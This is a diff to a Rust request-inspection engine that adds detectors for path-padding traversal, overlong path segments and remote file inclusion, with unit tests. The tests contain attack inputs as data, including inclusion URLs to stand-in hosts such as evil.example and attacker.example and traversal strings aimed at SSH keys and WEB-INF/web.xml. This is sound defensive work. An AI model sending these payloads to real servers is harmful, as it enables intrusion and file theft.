@@ -2,8 +2,8 @@
 //! separators, `..` variants such as `..;`, `...`, `.%00.`) and judged by how far it
 //! climbs and what it reaches (system files, secrets, dot directories).
 
-use super::{Dict, Sink, Strongest};
-use crate::extract::Origin;
+use super::{Dict, Hit, Sink, Strongest};
+use crate::extract::{Origin, Value};
 use crate::settings::Class;
 
 /// Files and directories whose access is the goal of a traversal.
@@ -242,6 +242,69 @@ fn dotdot_segments(p: &str) -> usize {
     n
 }
 
+/// Path padding: segments a file system ignores (`//`, `/./`) repeated to slip past a
+/// prefix or suffix check or to push an appended extension past the path-length limit
+/// (truncation), and a single component longer than any file name (255 bytes) made of
+/// one repeated byte, the classic overflow probe. Only for values shaped like a path:
+/// rooted, without whitespace, not a URL.
+fn padding(p: &str, ups: usize) -> Option<(u32, &'static str)> {
+    if !(p.starts_with('/') || p.starts_with("./")) || p.contains("://") || p.len() > 16 << 10 {
+        return None;
+    }
+    if p.bytes().any(|c| c.is_ascii_whitespace()) {
+        return None;
+    }
+    // `//cdn.example.com//x.css`: a protocol-relative URL, whose host is no segment.
+    if let Some(rest) = p.strip_prefix("//") {
+        if rest.starts_with(|c: char| c.is_ascii_alphanumeric())
+            && rest.split('/').next().is_some_and(|h| h.contains('.'))
+        {
+            return None;
+        }
+    }
+    let mut redundant = 0usize;
+    let mut target = false;
+    for (i, seg) in p.split('/').enumerate() {
+        match seg {
+            "" | "." if i > 0 => redundant += 1,
+            "" | "." => {}
+            _ => target = true,
+        }
+    }
+    // A trailing separator ends the path; it pads nothing.
+    if p.len() > 1 && p.ends_with('/') {
+        redundant = redundant.saturating_sub(1);
+    }
+    if target && redundant >= 2 {
+        return Some((
+            if redundant >= 4 { 72 } else { 64 },
+            "traversal.path-padding",
+        ));
+    }
+    if target && redundant >= 1 && ups >= 1 {
+        // `//..x`: a climb behind a doubled separator.
+        return Some((64, "traversal.path-padding"));
+    }
+    // Longest run of one byte: `/AAAA…` past NAME_MAX, most of the value.
+    if p.len() < 256 {
+        return None;
+    }
+    let b = p.as_bytes();
+    let (mut run, mut longest) = (0usize, 0usize);
+    for (i, &c) in b.iter().enumerate() {
+        run = if i > 0 && b[i - 1] == c && c != b'/' {
+            run + 1
+        } else {
+            1
+        };
+        longest = longest.max(run);
+    }
+    if longest >= 256 && longest * 10 >= p.len() * 9 {
+        return Some((64, "traversal.overlong-segment"));
+    }
+    None
+}
+
 /// Targets spelled without separators, as left when a filter strips `/` and `\`.
 const COMPACT_TARGETS: &[&str] = &[
     "etcpasswd",
@@ -321,6 +384,14 @@ pub(crate) fn detect(text: &str, sink: &mut Sink) {
             _ => 85,
         };
         best.consider((score, "traversal.dot-dot"));
+    }
+    if let Some(score) = padding(&p, ups) {
+        best.consider(score);
+    }
+    // A Java deployment descriptor spelt without its separator, as left by a filter
+    // that strips `/` and `\`: `..web-infweb.xml`.
+    if p.contains("web-infweb.xml") || p.contains("meta-infmanifest.mf") {
+        best.consider((70, "traversal.compact-target"));
     }
     // A run of dots glued to a system target: `........etcpasswd`, `....web-inf`.
     if let Some(pos) = p.find("....") {
@@ -446,6 +517,107 @@ pub(crate) fn detect(text: &str, sink: &mut Sink) {
     best.report(Class::Traversal, text, sink);
 }
 
+/// Parameter names that hold a file-system location the application includes from:
+/// PHP applications `include($param . "/x.php")` with these (`mosConfig_absolute_path`,
+/// `_CONF[path]`), so a remote URL there is remote file inclusion. Exact names only for
+/// the short words; `image_path` or `file` carrying a URL are ordinary API fields.
+const INCLUDE_EXACT: &[&str] = &["path", "dir", "root", "basedir", "rootdir", "docroot"];
+const INCLUDE_SUFFIXES: &[&str] = &[
+    "absolute_path",
+    "abs_path",
+    "abspath",
+    "base_path",
+    "basepath",
+    "base_dir",
+    "basedir",
+    "root_path",
+    "rootpath",
+    "root_dir",
+    "include_path",
+    "includepath",
+    "include_dir",
+    "includedir",
+    "document_root",
+    "install_path",
+    "lib_path",
+    "libpath",
+];
+
+/// Whether a parameter name (the last `[key]` of a PHP-style name counts) names an
+/// include location; `basePath`, `base-path` and `base_path` read the same.
+fn include_location_name(name: &str) -> bool {
+    let key = name
+        .rsplit_once('[')
+        .map_or(name, |(_, k)| k.trim_end_matches(']'));
+    if key.len() > 64 {
+        return false;
+    }
+    let mut snake = String::with_capacity(key.len() + 4);
+    for (i, c) in key.chars().enumerate() {
+        if c.is_ascii_uppercase() && i > 0 && !snake.ends_with('_') {
+            snake.push('_');
+        }
+        snake.push(match c {
+            '-' | '.' => '_',
+            _ => c.to_ascii_lowercase(),
+        });
+    }
+    INCLUDE_EXACT.contains(&snake.as_str())
+        || INCLUDE_SUFFIXES.iter().any(|s| {
+            snake
+                .strip_suffix(s)
+                .is_some_and(|head| head.is_empty() || head.ends_with('_'))
+        })
+}
+
+/// A URL that makes an include read over the network: a scheme with a host, or a UNC
+/// path (`\\host\share`, SMB).
+fn remote_location(value: &str) -> bool {
+    let v = value.trim();
+    if v.starts_with("\\\\") || v.starts_with("//") && !v.starts_with("///") {
+        return v.len() > 3;
+    }
+    let Some((scheme, rest)) = v.split_once("://") else {
+        return false;
+    };
+    matches!(
+        scheme.to_ascii_lowercase().as_str(),
+        "http" | "https" | "ftp" | "ftps" | "smb" | "webdav" | "dav"
+    ) && rest
+        .chars()
+        .next()
+        .is_some_and(|c| c.is_ascii_alphanumeric() || c == '[')
+}
+
+/// Remote file inclusion: a remote URL in a parameter named like an include location.
+pub(crate) fn remote_include(values: &[Value], out: &mut Vec<(usize, Hit)>) {
+    for (i, v) in values.iter().enumerate().skip(1) {
+        if !matches!(v.origin, Origin::ParamValue | Origin::JsonValue) || v.header.is_some() {
+            continue;
+        }
+        let name = &values[i - 1];
+        if !matches!(name.origin, Origin::ParamName | Origin::JsonKey)
+            || name.location != v.location
+        {
+            continue;
+        }
+        let (Some(n), Some(text)) = (name.variants.first(), v.variants.last()) else {
+            continue;
+        };
+        if remote_location(text) && include_location_name(n) {
+            out.push((
+                i,
+                Hit {
+                    class: Class::Traversal,
+                    detector: "traversal.remote-include",
+                    score: 72,
+                    snippet: text.chars().take(200).collect(),
+                },
+            ));
+        }
+    }
+}
+
 #[cfg(test)]
 mod tests {
     #![allow(clippy::unwrap_used, clippy::expect_used)]
@@ -472,6 +644,93 @@ mod tests {
             "../../../../../../../../home/user/.ssh/id_rsa",
         ] {
             assert!(s(a) >= 60, "{a}: {}", s(a));
+        }
+    }
+
+    fn remote_include_score(query: &str) -> u32 {
+        let engine = crate::Engine::new(crate::Settings {
+            sensitivity: crate::Sensitivity::Paranoid,
+            ..crate::Settings::default()
+        });
+        let req = crate::Request {
+            method: "GET",
+            path: "/index.php",
+            query: Some(query),
+            headers: &[],
+            body: b"",
+        };
+        engine
+            .inspect(&req)
+            .findings
+            .iter()
+            .filter(|f| f.class == Class::Traversal)
+            .map(|f| f.score)
+            .max()
+            .unwrap_or(0)
+    }
+
+    #[test]
+    fn remote_include_by_parameter_name() {
+        for q in [
+            "mosConfig_absolute_path=https://evil.example/shell.txt",
+            "_CONF[path]=http://evil.example/x",
+            "cfg[include_path]=ftp://198.51.100.7/x.txt",
+            "basePath=HTTPS://evil.example/",
+            "module=news&root_dir=%68ttp://evil.example/a",
+            "path=%5C%5Cattacker.example%5Cshare%5Cx",
+            "dir=//evil.example/payload",
+        ] {
+            assert!(remote_include_score(q) >= 60, "{q}");
+        }
+        for q in [
+            "image_path=https://cdn.example.com/a.png",
+            "file=https://example.com/report.pdf",
+            "redirect_path=https://app.example.com/home",
+            "path=/docs/getting-started",
+            "basePath=/api/v2",
+            "root=main&dir=asc",
+            "pathology=https://example.org/a",
+        ] {
+            assert!(remote_include_score(q) < 60, "{q}");
+        }
+    }
+
+    #[test]
+    fn padding_and_overlong_segments() {
+        let long = format!("/{}", "A".repeat(300));
+        for a in [
+            "/.//././/./etc/hosts.txt",
+            "///images/x",
+            "////config",
+            "\\.\\.\\.\\x.php",
+            "/././././././././././././././././etc/issue",
+            "//..%00x",
+            long.as_str(),
+            "..web-infweb.xml",
+            "WEB-INFweb.xml",
+        ] {
+            assert!(s(a) >= 60, "{a}: {}", s(a));
+        }
+        let b64 = format!(
+            "/9j/4AAQSkZJRgABAQ{}x/2wBDAAgGBgcGBQ{}",
+            "A".repeat(300),
+            "Q".repeat(200)
+        );
+        for l in [
+            "//cdn.example.com/app.js",
+            "//cdn.example.com//css//site.css",
+            "https://api.example.com//v1//users",
+            "https://example.com///",
+            "/home/./user",
+            "./src/main.rs",
+            "a//b//c",
+            "////",
+            "/./",
+            "// TODO: fix this // later",
+            b64.as_str(),
+            "/docs/WEB-INF is where web.xml lives",
+        ] {
+            assert!(s(l) < 60, "{l}: {}", s(l));
         }
     }
 
